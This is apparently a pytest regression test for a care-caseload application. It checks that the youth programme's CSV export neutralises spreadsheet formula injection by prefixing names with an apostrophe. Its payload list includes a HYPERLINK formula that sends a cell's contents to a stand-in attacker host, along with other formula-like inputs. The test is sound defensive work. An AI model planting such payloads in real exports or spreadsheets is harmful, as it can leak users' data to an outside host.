"""Formula injection (issue 15, finding 1): the caseload CSV writes formula-like text with a leading
apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import date

from gridgov.care import services
from gridgov.registry.models import Person

from .conftest import HOME, PROGRAMME_FIELDS, TODAY

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_caseload_csv_prefixes_formula_text(users, make_person, client_for):
    for i, text in enumerate(EVIL):
        person = make_person(f"人{i}", grid_code=HOME, birth=date(2008, 5, 17))  # 重点青少年: 6-25
        Person.objects.filter(pk=person.pk).update(name=text)
        services.enrolment_create(actor=users["social_worker"], programme="youth", person_id=person.pk,
                                  start_date=TODAY, level="", fields=PROGRAMME_FIELDS["youth"], today=TODAY)
    r = client_for(users["social_worker"]).get("/api/v1/care/youth/export.csv?status=all")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert sorted(row["name"] for row in rows) == sorted("'" + t for t in EVIL)
